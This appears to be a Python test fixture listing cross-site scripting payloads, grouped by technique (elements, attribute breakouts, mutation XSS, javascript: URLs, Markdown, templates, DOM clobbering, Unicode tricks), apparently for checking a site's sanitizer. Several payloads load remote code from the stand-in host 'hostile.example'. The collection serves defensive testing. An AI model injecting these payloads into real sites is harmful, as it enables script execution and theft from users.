"""Texts with which a stranger could try to run a script on the pages, in groups by what they count on.

One that runs sets `__xss`, opens a dialog, asks `hostile.example` for something, or breaks the policy of the page; one
that merely becomes markup leaves an element with the name `hostile`, or one that no text may have.
"""

from itertools import chain

# A text that is put into a page as HTML.
ELEMENTS = (
    "<script>__xss=1</script>",
    "<script src=//hostile.example/a.js></script>",
    "<ScRiPt\n>__xss=1</sCrIpT\t>",
    "<scr<script>ipt>__xss=1</scr</script>ipt>",
    "<img src=x onerror=__xss=1>",
    "<img src=x:x onerror=&#95;&#95;xss=1>",
    "<img/src='x'/onerror='alert(1)'>",
    "<svg onload=__xss=1>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><script>__xss=1</script></svg>",
    "<svg><a xlink:href=javascript:__xss=1><text>a</text></a></svg>",
    "<svg><use href=//hostile.example/a.svg#a></use></svg>",
    "<body onload=__xss=1>",
    "<details open ontoggle=__xss=1><summary>a</summary></details>",
    "<input autofocus onfocus=__xss=1>",
    "<video><source onerror=__xss=1></video>",
    "<audio src=//hostile.example/a.ogg autoplay></audio>",
    "<iframe src=javascript:parent.__xss=1></iframe>",
    "<iframe srcdoc='<script>parent.__xss=1</script>'></iframe>",
    "<object data=data:text/html,<script>parent.__xss=1</script>></object>",
    "<embed src=//hostile.example/a.swf>",
    "<link rel=stylesheet href=//hostile.example/a.css>",
    "<meta http-equiv=refresh content='0;url=//hostile.example/'>",
    "<base href=//hostile.example/>",
    "<style>@import '//hostile.example/a.css';</style>",
    "<marquee onstart=__xss=1>a</marquee>",
    "<button popovertarget=hostile>a</button><div id=hostile popover onbeforetoggle=__xss=1>b</div>",
    "<form action=//hostile.example/ id=hostile><button formaction=javascript:alert(1)>a</button></form>",
    "<template shadowrootmode=open><script>__xss=1</script></template>",
    "<script type=module>import '//hostile.example/a.js'</script>",
)

# A text within the value of an attribute: it ends the value, or the element.
ATTRIBUTES = (
    '" onmouseover="__xss=1',
    "' onfocus='__xss=1' autofocus tabindex=0 '",
    '"><img src=x onerror=__xss=1>',
    "'><svg onload=__xss=1>",
    '" style="background:url(//hostile.example/a.png)" a="',
    "` onmouseover=__xss=1 `",
    'a" autofocus onfocus="alert(1)" id="hostile',
    "&quot;&gt;&lt;img src=x onerror=__xss=1&gt;",
    "&#34;&#62;&#60;script&#62;__xss=1&#60;/script&#62;",
    '\\"><script>__xss=1</script>',
)

# A text that is shown within an element whose content is not HTML, such as `<title>` or an import map.
RAW_TEXT = (
    "</title><script>__xss=1</script>",
    "</textarea><img src=x onerror=__xss=1>",
    "</script><script>__xss=1</script>",
    '"}}</script><script type=importmap>{"imports":{"preact":"//hostile.example/a.js"}}</script>',
    "</style><img src=x onerror=__xss=1>",
    "</noscript><img src=x onerror=__xss=1>",
    "</template><img src=x onerror=__xss=1>",
    "--><img src=x onerror=__xss=1><!--",
    "<!--><script>__xss=1</script>-->",
    "]]><script>__xss=1</script>",
    "<![CDATA[<script>__xss=1</script>]]>",
    "<!--<script>",
    '\\u003cscript\\u003e__xss=1\\u003c/script\\u003e","a":"',
    "</main></body></html><script>__xss=1</script>",
)

# Markup that is harmless as it is first parsed and not once it has been written out and parsed again.
MUTATIONS = (
    '<noscript><p title="</noscript><img src=x onerror=__xss=1>">',
    '<svg></p><style><a id="</style><img src=x onerror=__xss=1>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=x onerror=__xss=1&gt;'>",
    "<math><mi><mglyph><style><img src=x onerror=__xss=1></style></mglyph></mi></math>",
    '<form><math><mtext></form><form><mglyph><style></math><img src onerror="__xss=1">',
    "<svg><foreignObject><math><mi xlink:href='javascript:__xss=1'>a</mi></math></foreignObject></svg>",
    '<math><annotation-xml encoding="text/html"><style><img src=x onerror=__xss=1></style></annotation-xml></math>',
    '<xmp><p title="</xmp><img src=x onerror=__xss=1>">',
    '<textarea><p title="</textarea><img src=x onerror=__xss=1>">',
    '<title><p id="</title><img src=x onerror=__xss=1>">',
    '<style><p id="</style><img src=x onerror=__xss=1>">',
    "<select><template><style><!--</style><a rel='--></style></template></select><img src=x onerror=__xss=1>'>",
    "<table><td><svg><desc><td></desc></svg><img src=x onerror=__xss=1></td></table>",
    "<plaintext><script>__xss=1</script>",
)

# URLs that run a script, or bring content of their own, when somebody follows them.
URLS = (
    "javascript:__xss=1",
    "JaVaScRiPt:alert(1)",
    "java&Tab;script:__xss=1",
    "java\tscript:__xss=1",
    "&#106;&#97;vascript&colon;__xss=1",
    "\x01javascript:__xss=1",
    "%6aavascript:__xss=1",
    "javascript://hostile.example/%0a__xss=1",
    "javascript:/*--></title></style></textarea></script><svg onload='__xss=1'>*/",
    "https:javascript:__xss=1",
    "data:text/html,<script>__xss=1</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcz0xPC9zY3JpcHQ+",
    "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='__xss=1'/>",
    "vbscript:msgbox(1)",
    "view-source:javascript:__xss=1",
    "blob:https://hostile.example/a",
    "java\u200bscript:__xss=1",
    "\uff4aavascript:__xss=1",
)

# What Markdown makes elements of, with a script where a URL, a title or the name of a language is expected.
MARKDOWN = (
    "[a](javascript:__xss=1)",
    "[a](<javascript:__xss=1>)",
    "[a](java\nscript:__xss=1)",
    '[a](https://b.example "c" onmouseover="__xss=1")',
    '[a](https://b.example/"onmouseover="__xss=1)',
    '![a](x"onerror=__xss=1)',
    "![a](https://hostile.example/a.png)",
    '![a](https://hostile.example/a.png "b\\" onload=\\"__xss=1")',
    "![![a](javascript:__xss=1)](data:text/html,__xss=1)",
    "[a][b]\n\n[b]: javascript:__xss=1 'c'",
    "[javascript:__xss=1]: <javascript:__xss=1>\n\n[javascript:__xss=1]",
    "<javascript:__xss=1>",
    '<https://b.example/"onmouseover=__xss=1>',
    "https://b.example/'onmouseover='__xss=1'",
    "http://b.example/<script>__xss=1</script>",
    '```"><script>__xss=1</script>\na\n```',
    "```html\n</code></pre><script>__xss=1</script>\n```",
    "~~~ js' onclick='__xss=1\na\n~~~",
    "`</code><script>__xss=1</script>`",
    "***<img src=x onerror=__xss=1>**_a_*",
    '|a|\n|:-:" onclick="__xss=1|\n|<script>__xss=1</script>|',
    "|a|\n|-|\n|![b](javascript:__xss=1)|",
    "a[^1]\n\n[^1]: <img src=x onerror=__xss=1>",
    "# <svg onload=__xss=1>\n\n> - <img src=x onerror=__xss=1>",
    "    <script>__xss=1</script>",
    "a  \n<img src=x\nonerror=__xss=1>",
    "\\<script>__xss=1\\</script>",
    "&lt;script&gt;__xss=1&lt;/script&gt;",
    "<a href='[b](javascript:__xss=1)'>c</a>",
    '<div markdown="1" id=hostile>[a](javascript:__xss=1)</div>',
    "[a](mailto:b@c.example?body=<script>__xss=1</script>)",
    "1. [a]( \x0bjavascript:__xss=1 )",
)

# Expressions of the languages of templates, and what Preact, htm or JSON could take for more than a text.
TEMPLATES = (
    "{{7*7}}{{constructor.constructor('__xss=1')()}}",
    "{% set a = 7*7 %}{{ a }}{% include 'base.html' %}",
    "{{ ''.__class__.__mro__ }}",
    "{{ '<script>__xss=1</script>'|safe }}",
    "${__xss=1}`${alert(1)}`",
    "#{7*7}<%= 7*7 %>[[7*7]]",
    "<${Sanitized} html=${'<img src=x onerror=__xss=1>'} />",
    '{"__html": "<img src=x onerror=__xss=1>"}',
    '{"dangerouslySetInnerHTML": {"__html": "<img src=x onerror=__xss=1>"}}',
    '{"type": "img", "props": {"src": "x", "onerror": "__xss=1"}, "constructor": null}',
    '{"__proto__": {"innerHTML": "<img src=x onerror=__xss=1>"}}',
    "__proto__",
)

# Elements whose names hide properties of the document and of the window from its scripts.
CLOBBERING = (
    "<a id=hostile></a><a id=hostile name=src href=//hostile.example/a.js></a>",
    "<form name=hostile><input name=attributes><input name=parentNode></form>",
    "<img name=getElementById id=hostile src=x>",
    "<iframe name=hostile srcdoc='<a id=b href=javascript:__xss=1></a>'></iframe>",
    "<output id=hostile name=cookie>a</output>",
    "<meta name=hostile content=__xss=1>",
)

# Characters that hide a part of a text, turn its direction, or end a line for one parser and not for another.
CHARACTERS = (
    "\u202e<script>__xss=1</script>\u202c",
    "\u2066javascript:__xss=1\u2069",
    "<\x0cscript>__xss=1</script>",
    "<img\x0bsrc=x\x1fonerror=__xss=1>",
    "<scr\u200bipt>__xss=1</scr\u200bipt>",
    "\ufeff<script>__xss=1</script>",
    "\uff1cscript\uff1e__xss=1\uff1c/script\uff1e",
    "\u2028__xss=1//\u2029</script><script>__xss=1</script>",
    "<img src=x onerror\u00a0=__xss=1>\x85",
    "\x1b]8;;javascript:__xss=1\x07a\x1b]8;;\x07",
)

TEXTS = tuple(chain(ELEMENTS, ATTRIBUTES, RAW_TEXT, MUTATIONS, URLS, MARKDOWN, TEMPLATES, CLOBBERING, CHARACTERS))

FORMS_OF_LINKS = ("[a]({})", "[a](<{}>)", "![a]({})", "<{}>", "[a]\n\n[a]: {}")
"""What makes a link of a URL in Markdown."""

TAGS = (
    "javascript",
    "constructor",
    "__proto__",
    "c++",
    "#hostile",
    "..a..",
    "a+b.c#d",
    "\uff4aavascript",
    "\u017fcript",
    "\u00aascript",
)
"""Tags that the rules for tags take. Each leads to its posts."""

USERNAMES = ("constructor", "toString", "0.-_")
"""Usernames that identity takes."""
